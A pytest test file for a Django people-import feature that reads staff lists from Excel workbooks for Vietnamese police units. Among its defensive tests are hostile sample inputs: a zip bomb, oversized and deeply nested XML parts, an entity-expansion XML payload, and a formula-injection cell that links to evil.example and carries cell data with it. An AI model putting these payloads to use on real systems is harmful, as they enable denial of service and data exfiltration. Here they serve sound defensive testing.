"""People from Excel: read safely, shown first, done as a whole or not at all."""

import io
import re
import subprocess
import sys
import textwrap
import zipfile
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from django.utils.timezone import localdate as today
from openpyxl import Workbook, load_workbook

from accounts.models import Appointment, Invitation, PeopleImport, User
from accounts.people import imports
from accounts.people.spreadsheets import Row, read_people, template
from accounts.permissions import Role
from audit.models import Entry
from core import spreadsheets
from core.errors import Refused
from tests import factories

pytestmark = pytest.mark.django_db
HEADINGS = ["Full name", "E-mail", "User name", "Unit", "Role", "Position"]


@pytest.fixture
def province():
    return factories.ProvinceFactory(place="Thành phố Hà Nội", code="01")


@pytest.fixture
def commune(province):
    return factories.UnitFactory(parent=province, place="Phường Ba Đình", code="00004")


@pytest.fixture
def admin(client, province):
    admin = factories.person(
        Role.ADMINISTRATOR, province, full_name="Quản Trị", email="quan.tri@congan.example"
    )
    client.force_login(admin)
    return admin


def sheet(*rows, headings=HEADINGS) -> bytes:
    book = Workbook()
    for row in (headings, *rows):
        book.active.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def read(data: bytes) -> list[Row]:
    return read_people(io.BytesIO(data), size=len(data))


def upload(client, data: bytes):
    file = SimpleUploadedFile("can-bo.xlsx", data)
    return client.post(reverse("accounts:import"), {"file": file}, follow=True)


def row(
    name="Lê Thị Hoa",
    email="hoa@congan.example",
    username="",
    unit="00004",
    role="Drafting officer",
    title="",
):
    return Row(2, name, email, username, unit, role, title)


def planned(rows, by):
    return imports.plan(rows, by=by).rows


# --- Reading --------------------------------------------------------------------------------------


def test_the_template_reads_back_what_was_filled_in_in_either_language(province):
    with translation.override("vi"):
        book = load_workbook(io.BytesIO(template([province])))
    filled = book.worksheets[0]
    filled.append(["Lê Thị Hoa", "hoa@congan.example", None, 4, "officer", None])
    out = io.BytesIO()
    book.save(out)

    (read_row,) = read(out.getvalue())

    assert read_row[1:] == ("Lê Thị Hoa", "hoa@congan.example", "", "4", "officer", "")
    assert [page[1][0].font.bold for page in book.worksheets] == [True, True, True]
    assert [cell.value for cell in book.worksheets[2][2]] == ["01", province.label]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"not a workbook", "Only Excel files of the kind .xlsx"),
        (b"\xd0\xcf\x11\xe0 old excel", "Only Excel files of the kind .xlsx"),
        (b"PK\x05\x06" + b"\0" * 18, "cannot be read"),
        (sheet(), "no filled row"),
        (sheet(["x"], headings=["Full name", "Unit"]), "lacks these columns: E-mail, Role"),
        (b"x" * (2 * 1024 * 1024 + 1), "larger than 2 MB"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_in_words(data, message):
    with pytest.raises(Refused, match=message):
        read(data)


def test_a_small_file_that_unpacks_to_hundreds_of_megabytes_is_refused_before_it_is_unpacked():
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * 100_000_000)
    assert len(bomb.getvalue()) < 200_000

    with pytest.raises(Refused, match="far larger inside than outside"):
        read(bomb.getvalue())


def with_part(name: str, body: bytes) -> bytes:
    """Make a workbook of which one part is another."""
    original, made = zipfile.ZipFile(io.BytesIO(sheet(["x"]))), io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in original.infolist():
            archive.writestr(
                entry.filename, body if entry.filename == name else original.read(entry)
            )
    return made.getvalue()


SPREADSHEET = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


@pytest.mark.parametrize(
    ("name", "body", "said"),
    [
        (
            "xl/styles.xml",
            b"<styleSheet "
            + SPREADSHEET
            + b"><cellXfs>"
            + b"<xf/>" * 1_600_000
            + b"</cellXfs></styleSheet>",
            "far larger inside than outside",
        ),
        (
            "xl/styles.xml",
            b"<styleSheet "
            + SPREADSHEET
            + b"><fonts>"
            + b"<font/>" * 28_000
            + b"</fonts></styleSheet>",
            "^1$",
        ),
        (
            "xl/worksheets/sheet1.xml",
            b"<worksheet " + SPREADSHEET + b">" + b"<a>" * 3_000_000,
            "cannot be read",
        ),
        (
            "xl/worksheets/sheet1.xml",
            b"<worksheet "
            + SPREADSHEET
            + b"><sheetData>"
            + b"<row><c><v>1</v></c></row>" * 390_000,
            "cannot be read",
        ),
    ],
    ids=["styles", "fonts", "deep", "rows"],
)
def test_a_workbook_that_costs_much_costs_the_web_process_nothing(name, body, said, tmp_path):
    hostile = with_part(name, body)
    assert len(hostile) < 200_000
    file = tmp_path / "hostile.xlsx"
    file.write_bytes(hostile)

    output = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(MEASURE), str(file)],
        capture_output=True,
        text=True,
        check=True,
    )

    answer, ours, programs = output.stdout.splitlines()
    assert re.search(said, answer), answer
    assert int(ours) < 32 * 1024
    assert int(programs) <= spreadsheets.LIMITS.memory // 1024


MEASURE = """
    import os, resource, sys
    os.environ["PORTAL_MODE"] = "test"
    os.environ["DJANGO_SETTINGS_MODULE"] = "outreach_portal.settings"
    import django
    django.setup()
    from pathlib import Path
    from django.utils import translation
    from accounts.people.spreadsheets import read_people
    from core.errors import Refused
    path = Path(sys.argv[1])
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with translation.override("en"), path.open("rb") as file:
        try:
            said = len(read_people(file, size=path.stat().st_size))
        except Refused as refused:
            said = str(refused)
    print(said)
    print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
    print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
"""


def test_a_unit_named_like_a_formula_is_text_in_the_template(province):
    formula = '=HYPERLINK("https://evil.example/?"&A2,"Phường")'
    unit = factories.UnitFactory(parent=province, place=formula)

    page = load_workbook(io.BytesIO(template([unit]))).worksheets[2]

    assert "=HYPERLINK" in page["B2"].value
    assert [cell.data_type for cell in page[2]] == ["s", "s"]


def test_entities_that_multiply_are_refused():
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    original, hostile = zipfile.ZipFile(io.BytesIO(sheet(["x"]))), io.BytesIO()
    with zipfile.ZipFile(hostile, "w") as archive:
        for entry in original.infolist():
            data = original.read(entry)
            if entry.filename == "xl/worksheets/sheet1.xml":
                cell = '<row r="1"><c t="str"><v>&e9;</v></c></row>'
                data = (
                    f"<!DOCTYPE x [{entities}]><worksheet><sheetData>{cell}</sheetData></worksheet>"
                )
            archive.writestr(entry, data)

    with pytest.raises(Refused, match="cannot be read"):
        read(hostile.getvalue())


def test_at_most_5000_rows_are_read():
    with pytest.raises(Refused, match="At most 5,000 rows"):
        read(sheet(*(["A", f"a{n}@b.example", "", "1", "officer", ""] for n in range(5001))))


# --- Planning -------------------------------------------------------------------------------------


LISTED = (
    "Công an xã Tân Lập, Thành phố Hà Nội (00100); Công an xã Tân Lập, Thành phố Hà Nội (00200)"
)
ROLES = "Drafting officer; Approving leader; Supervisor; Provincial overseer; System administrator"
ELSEWHERE = "This e-mail belongs to somebody outside your area. Ask the ministry's administrator."
NO_SUCH_POST = "does not exist in Công an phường Ba Đình. Choose another role or the unit above."
ME = {"email": "quan.tri@congan.example", "name": "Quản Trị"}


@pytest.mark.parametrize(
    ("changes", "column", "message"),
    [
        ({"name": ""}, "Full name", "Write the full name."),
        ({"email": ""}, "E-mail", "Write the e-mail."),
        ({"email": "hoa"}, "E-mail", "Write an e-mail such as an.nv@example.vn."),
        (ME, "E-mail", "This is you. Nobody changes their own posts."),
        ({"email": "xa@congan.example"}, "E-mail", ELSEWHERE),
        (
            {"email": "gan@congan.example"},
            "Full name",
            "This e-mail belongs to Người Gần. Check both.",
        ),
        (
            {"username": "Có Dấu"},
            "User name",
            "Use small letters without accents, digits and dots only.",
        ),
        (
            {"username": "nguoi.gan"},
            "User name",
            "This user name is taken. Write another, or leave the cell empty.",
        ),
        ({"unit": ""}, "Unit", "Write the unit's official code or name."),
        (
            {"unit": "Phường Lạ"},
            "Unit",
            "No such unit in your area. See the sheet of units in the template.",
        ),
        (
            {"unit": "xa tan lap"},
            "Unit",
            f"Several units fit. Write the code of the one you mean: {LISTED}.",
        ),
        ({"role": "Sếp"}, "Role", f"Write one of: {ROLES}."),
        ({"role": "Provincial overseer"}, "Role", f"The role “Provincial overseer” {NO_SUCH_POST}"),
        ({"title": "x" * 101}, "Position", "Write at most 100 characters."),
    ],
)
def test_each_wrong_cell_is_named_with_what_to_write_instead(
    admin, commune, province, changes, column, message
):
    factories.person(Role.OFFICER, email="xa@congan.example", full_name="Lê Thị Hoa")
    factories.person(
        Role.OFFICER,
        commune,
        email="gan@congan.example",
        full_name="Người Gần",
        username="nguoi.gan",
    )
    for code in ("00100", "00200"):
        factories.UnitFactory(parent=province, place="Xã Tân Lập", code=code)

    (plan,) = planned([row(**changes)], admin)

    assert plan.errors == [(column, message)]


@pytest.mark.parametrize(
    "words", ["00004", "4", "Công an phường Ba Đình", "phuong ba dinh", "ba dinh ha noi"]
)
def test_a_unit_is_found_by_its_code_or_by_its_name_without_accents(admin, commune, words):
    (plan,) = planned([row(unit=words)], admin)

    assert (plan.unit, plan.outcome) == (commune, imports.Outcome.NEW)


def test_a_unit_of_another_province_is_not_found(admin):
    factories.UnitFactory(place="Phường Sông Hàn", code="20194")

    (plan,) = planned([row(unit="20194")], admin)

    assert plan.errors[0][0] == "Unit"


def test_rows_that_contradict_each_other_are_reported(admin, commune):
    first, other_name, twice = planned(
        [row(), row(name="Lê Văn Khác", role="Supervisor"), row()], admin
    )

    assert first.errors == []
    assert other_name.errors == [("Full name", "Another row gives this e-mail another name.")]
    assert twice.errors == [
        ("E-mail", "The same post stands in another row already. Delete one of the two.")
    ]


def test_a_plan_distinguishes_new_changed_and_unchanged(admin, commune):
    factories.person(Role.OFFICER, commune, email="a@congan.example", full_name="A")
    factories.person(Role.OFFICER, commune, email="b@congan.example", full_name="B")

    plans = planned(
        [
            row(),
            row("A", "a@congan.example"),
            row("B", "b@congan.example", role="Approving leader"),
        ],
        admin,
    )

    assert [p.outcome for p in plans] == ["new", "same", "changed"]
    assert [post.role for post in plans[2].replaced] == ["officer"]


def test_a_person_may_hold_two_posts_in_one_unit_by_two_rows(admin, commune):
    factories.person(Role.OFFICER, commune, email="a@congan.example", full_name="A")

    plans = planned(
        [row("A", "a@congan.example"), row("A", "a@congan.example", role="Approving leader")], admin
    )

    assert [(p.outcome, p.replaced) for p in plans] == [("same", []), ("changed", [])]


def test_people_of_one_name_get_user_names_of_their_own(admin, commune):
    plans = planned([row(), row(email="hoa2@congan.example")], admin)

    assert [p.username for p in plans] == ["le.thi.hoa", "le.thi.hoa2"]


def test_a_plan_asks_as_much_for_fifty_rows_as_for_one(admin, commune):
    with CaptureQueriesContext(connection) as one:
        imports.plan([row()], by=admin)
    admin = User.objects.get(pk=admin.pk)
    with CaptureQueriesContext(connection) as fifty:
        imports.plan([row(email=f"hoa{n}@congan.example") for n in range(50)], by=admin)

    assert len(fifty) <= len(one) + 1


# --- Doing ----------------------------------------------------------------------------------------


def test_nothing_is_written_before_it_is_confirmed(client, admin, commune):
    response = upload(
        client, sheet(["Lê Thị Hoa", "hoa@congan.example", "", "ba dinh", "officer", ""])
    )

    assert "accounts/import_preview.html" in [t.name for t in response.templates]
    assert response.context["counts"] == {"new": 1, "changed": 0, "same": 0, "error": 0}
    assert not User.objects.filter(email="hoa@congan.example").exists()


def test_confirmed_it_makes_accounts_and_posts_and_shows_no_link(client, admin, commune):
    officer = factories.person(Role.OFFICER, commune, email="a@congan.example", full_name="A")
    Appointment.objects.filter(user=officer).update(valid_from=today() - timedelta(days=9))
    preview = upload(
        client,
        sheet(
            ["Lê Thị Hoa", "Hoa@CongAn.example", "", "ba dinh", "Drafting officer", "Cán bộ"],
            ["A", "a@congan.example", "", "00004", "Supervisor", "Phó Trưởng"],
        ),
    )

    done = client.post(
        reverse("accounts:import_preview"), {"digest": preview.context["plan"].digest}
    )

    hoa = User.objects.get(email="hoa@congan.example")
    assert [(p.unit, p.role, p.title) for p in hoa.appointments.all()] == [
        (commune, "officer", "Cán bộ")
    ]
    posts = officer.appointments.order_by("valid_from").values_list("role", "title", "valid_to")
    assert list(posts) == [
        ("officer", "", today() - timedelta(days=1)),
        ("supervisor", "Phó Trưởng", None),
    ]
    assert done.context["made"] == [hoa]
    assert Invitation.objects.filter(user=hoa).count() == 1
    assert "/invitation/" not in done.content.decode()
    assert User.objects.search("le thi hoa").get() == hoa
    actions = Entry.objects.order_by("action").values_list("action", flat=True)
    assert list(actions) == ["account.appointed", "account.imported", "account.invited"]
    again = client.post(
        reverse("accounts:import_preview"), {"digest": preview.context["plan"].digest}
    )
    assert again["Location"] == reverse("accounts:import")
    assert PeopleImport.objects.get().rows == []


def test_who_waits_for_a_second_administrator_is_not_counted_as_invited(client, admin, commune):
    leader = str(Role.APPROVER.label)
    preview = upload(
        client,
        sheet(
            ["Lê Thị Hoa", "hoa@congan.example", "", "00004", "Drafting officer", ""],
            ["Hà Thu", "thu@congan.example", "", "00004", leader, "Trưởng Công an phường"],
        ),
    )

    done = client.post(
        reverse("accounts:import_preview"), {"digest": preview.context["plan"].digest}
    )

    page = " ".join(done.content.decode().split())
    assert "1 invitation is on its way by e-mail." in page
    assert "1 post waits for a second administrator." in page


def test_what_changed_since_the_preview_stops_it_before_anything_is_written(client, admin, commune):
    preview = upload(
        client,
        sheet(
            ["Lê Thị Hoa", "hoa@congan.example", "", "00004", "officer", ""],
            ["Trần B", "b@congan.example", "tran.b", "00004", "officer", ""],
        ),
    )
    factories.UserFactory(username="tran.b")  # somebody else took the name meanwhile

    response = client.post(
        reverse("accounts:import_preview"), {"digest": preview.context["plan"].digest}
    )

    assert response.status_code == 409
    assert "Something changed since the preview" in response.content.decode()
    assert not User.objects.filter(email="hoa@congan.example").exists()


def test_one_wrong_row_stops_all(client, admin, commune):
    preview = upload(
        client,
        sheet(
            ["Lê Thị Hoa", "hoa@congan.example", "", "00004", "officer", ""],
            ["Trần B", "b@congan.example", "", "99999", "officer", ""],
        ),
    )
    assert "Import now" not in preview.content.decode()

    response = client.post(
        reverse("accounts:import_preview"), {"digest": preview.context["plan"].digest}
    )

    assert response.status_code == 409
    assert not User.objects.filter(email__in=["hoa@congan.example", "b@congan.example"]).exists()


def test_a_failure_in_the_middle_leaves_nothing_behind(client, admin, commune, monkeypatch):
    preview = upload(
        client, sheet(["Lê Thị Hoa", "hoa@congan.example", "", "00004", "officer", ""])
    )

    def fail(*args, **kwargs):
        raise RuntimeError("the machine stopped")

    monkeypatch.setattr(imports, "send_invitations", fail)
    with pytest.raises(RuntimeError):
        imports.apply(PeopleImport.objects.get(), by=admin, digest=preview.context["plan"].digest)

    assert not User.objects.filter(email="hoa@congan.example").exists()
    assert PeopleImport.objects.get().applied_at is None


def test_the_file_of_another_administrator_is_not_confirmed(client, admin, commune, province):
    upload(client, sheet(["Lê Thị Hoa", "hoa@congan.example", "", "00004", "officer", ""]))
    colleague = factories.person(Role.ADMINISTRATOR, province)
    client.force_login(colleague)

    response = client.get(reverse("accounts:import_preview"))

    assert response["Location"] == reverse("accounts:import")
    with pytest.raises(Refused):
        imports.apply(PeopleImport.objects.get(), by=colleague, digest="")


def test_the_template_is_a_workbook_with_the_units_of_the_area(client, admin, commune):
    factories.UnitFactory()

    response = client.get(reverse("accounts:import_template"))

    book = load_workbook(io.BytesIO(response.content))
    assert response["Content-Disposition"] == 'attachment; filename="people-template.xlsx"'
    assert [cell.value for cell in book.worksheets[2]["A"]] == ["Official code", "01", "00004"]


def test_the_template_lists_the_units_by_name_whatever_their_accents(client, admin, province):
    for place in ("Xã Trà Tân", "Xã Đại Lộc", "Xã La Êê", "Xã Duy Xuyên"):
        factories.UnitFactory(parent=province, place=place)

    response = client.get(reverse("accounts:import_template"))

    listed = load_workbook(io.BytesIO(response.content)).worksheets[2]
    names = [row[1].value.split(",")[0] for row in listed.iter_rows(min_row=2)]
    assert names[-4:] == [
        "Công an xã Đại Lộc",
        "Công an xã Duy Xuyên",
        "Công an xã La Êê",
        "Công an xã Trà Tân",
    ]


@pytest.mark.parametrize(
    ("data", "said"),
    [(b"not a workbook", "Only Excel files of the kind .xlsx"), (b"", "Choose a file.")],
)
def test_a_refused_file_is_named_at_its_field(client, admin, data, said):
    answer = upload(client, data) if data else client.post(reverse("accounts:import"))

    errors = answer.context["form"].errors
    assert {name: len(error) for name, error in errors.items()} == {"file": 1}
    assert said in errors["file"][0]
